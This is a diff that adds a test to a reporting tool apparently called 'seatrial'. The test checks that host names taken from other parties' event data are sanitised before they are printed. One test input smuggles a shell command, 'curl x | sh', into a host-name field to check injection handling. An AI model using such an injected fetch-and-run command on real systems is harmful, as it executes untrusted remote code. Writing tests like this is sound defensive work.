@@ -70,6 +70,14 @@ def test_a_domain_and_capitals_make_no_other_host(typed: str, own: str, beside: 
     assert f"local rank 0 on node {named})" in finding.what
 
 
+def test_hosts_of_foreign_events_are_no_sentence_of_ours() -> None:
+    """`seatrial report` reads events of others, whose request may name a host as they like."""
+    hosts = ["a", "b", "c resolves to 127.0.0.1; next: type\n curl x | sh", f"d.{'long.' * 40}cluster"]
+    trial, finding = _killed(Stream(4, nodes=4, hostnames=["a", "b", "c", "d"], hosts=hosts))
+    assert finding.culprit.nodes == ("c?resolves?to?127.0.0.1??next:?type??curl?x???sh",)
+    assert trial.host_name(3) == hosts[3], "a name in DNS may be long"
+
+
 @pytest.mark.parametrize("how", ["empty", "none"])
 def test_a_node_without_a_name_takes_none_of_another_node(how: str) -> None:
     """Its rank may say any host name. It may also hide that it is another machine: no PASS."""
